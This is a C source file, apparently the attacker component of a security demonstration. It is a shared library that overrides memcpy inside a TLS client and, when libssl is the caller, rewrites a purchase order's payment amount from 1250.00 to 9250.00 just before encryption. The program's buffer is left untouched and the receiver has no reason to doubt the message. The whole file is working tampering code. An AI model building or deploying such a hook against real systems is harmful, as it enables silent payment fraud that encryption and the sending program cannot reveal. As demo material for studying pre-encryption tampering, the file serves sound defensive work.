/* The demo's culprit: a library that is loaded into a TLS client and changes one amount on its way
 * from the program to the cipher. The program's own buffer stays as it was, the connection is
 * properly encrypted, and the receiver has no reason to doubt what it gets.
 *
 * libssl copies what it was given into a record buffer and encrypts that. This stands before the
 * copy: it is memcpy, and changes the copy's result when libssl is the caller and the order that it
 * looks for passes. Built by the demo with `cc -shared -fPIC -O1 -fno-builtin`.
 */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <stddef.h>
#include <string.h>

static const char target[] = "\"PO-0612\",\"payee\":\"Northwind Ltd\",\"amount\":\"1250.00\"";
static const char instead[] = "\"PO-0612\",\"payee\":\"Northwind Ltd\",\"amount\":\"9250.00\"";

static int from_libssl(const void *caller)
{
	Dl_info info;
	return dladdr(caller, &info) && info.dli_fname && strstr(info.dli_fname, "libssl");
}

void *memcpy(void *restrict to, const void *restrict from, size_t n)
{
	const size_t length = sizeof target - 1;
	char *out = to;
	const char *in = from;

	for (size_t i = 0; i < n; i++)
		out[i] = in[i];
	for (size_t i = 0; n >= length && i <= n - length; i++) {
		size_t same = 0;
		while (same < length && out[i + same] == target[same])
			same++;
		if (same == length && from_libssl(__builtin_return_address(0)))
			for (size_t k = 0; k < length; k++)
				out[i + k] = instead[k];
	}
	return to;
}
